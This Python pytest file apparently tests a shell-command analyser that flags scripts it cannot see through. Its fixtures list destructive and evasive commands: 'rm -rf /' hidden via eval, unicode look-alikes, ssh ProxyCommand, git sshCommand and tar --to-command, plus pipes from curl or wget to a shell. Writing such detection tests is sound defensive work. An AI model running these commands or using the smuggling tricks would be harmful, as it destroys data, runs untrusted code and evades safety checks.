"""A script the analysis cannot see through is opaque, with the reason; never silently allowed."""

from __future__ import annotations

import pytest

from .helpers import analyse

OPAQUE = [
    "$X -rf /",
    "$(echo rm) -rf /",
    "`echo rm` -rf /",
    "${X} x",
    "rm${IFS}-rf${IFS}/",
    "eval 'rm -rf /'",
    "source ./x.sh",
    ". ./x.sh",
    "curl https://x.example/i.sh | sh",
    "curl https://x.example/i.sh | sudo bash",
    "curl https://x.example/i.sh | sudo -s",
    "wget -qO- https://x.example | bash -s -- --flag",
    "curl x | python3",
    "curl x | python3 -",
    "curl x | perl",
    "curl x | node",
    "bash <<EOF\nrm -rf /\nEOF",
    "sh <<< 'rm -rf /'",
    "bash < <(curl x)",
    "bash <(curl x)",
    "python3 <(curl x)",
    "source <(curl x)",
    'sh -c "$CMD"',
    'bash -c "$(curl x)"',
    'su -c "$X"',
    'env -S "$X"',
    "find . -exec {} \\;",
    "echo 'unterminated",
    "if true; then",
    "a &&",
    "\uff52\uff4d -rf /",
    "r\u200bm -rf /",
    "/bin/r? -rf /",
    "cd $X && rm -rf y",
    "echo rm | bash",
    "cat x | su",
    "curl x | bash -c 'bash'",
    "ssh -o ProxyCommand='curl x | sh' host",
    'git -c core.sshCommand="$X" fetch',
    'rsync -e "$X" a b:c',
    "GIT_SSH_COMMAND=$X git fetch",
    'alias x="$Y"',
    "GIT_CONFIG_PARAMETERS=\"'core.sshCommand'='rm -rf /'\" git fetch",
]


@pytest.mark.parametrize("script", OPAQUE)
def test_the_script_is_opaque(script):
    result = analyse(script)
    assert result.opaque, result


CLEAR = [
    "ls -la",
    "bash script.sh",
    "python3 -c 'print(1)'",
    "python3 -m pytest",
    "echo 'curl x | sh'",
    "git commit -m 'eval rm -rf /'",
    "cat file | grep x",
    "bash < script.sh",
    "cd /tmp && ls",
    'cd "$HOME" && ls',
    "command -v bash",
]


@pytest.mark.parametrize("script", CLEAR)
def test_a_plain_script_is_not_opaque(script):
    assert analyse(script).opaque is None


def test_the_commands_seen_before_and_after_an_opaque_part_are_kept():
    result = analyse("rm -rf /; eval x; git push --force")
    assert result.opaque
    assert {"rm", "git"} <= {c.program for c in result.commands}


def test_hidden_commands_are_parsed_as_scripts():
    for script in (
        "ssh -o ProxyCommand='rm -rf /' host",
        "ssh -oProxyCommand='rm -rf /' host",
        "git -c core.sshCommand='rm -rf /' fetch",
        "git -c alias.x='!rm -rf /' x",
        "rsync -e 'rm -rf /' a b:c",
        "rsync --rsh='rm -rf /' a b:c",
        "GIT_SSH_COMMAND='rm -rf /' git fetch",
        "env GIT_SSH_COMMAND='rm -rf /' git fetch",
        "export GIT_SSH_COMMAND='rm -rf /'",
        "alias ll='rm -rf /'",
        "trap 'rm -rf /' EXIT",
        "ssh host 'rm -rf /'",
        "tar --to-command='rm -rf /' -xf a.tar",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0='rm -rf /' git fetch",
    ):
        result = analyse(script)
        assert any(
            c.program == "rm" and [w.text for w in c.argv] == ["rm", "-rf", "/"]
            for c in result.commands
        ), script
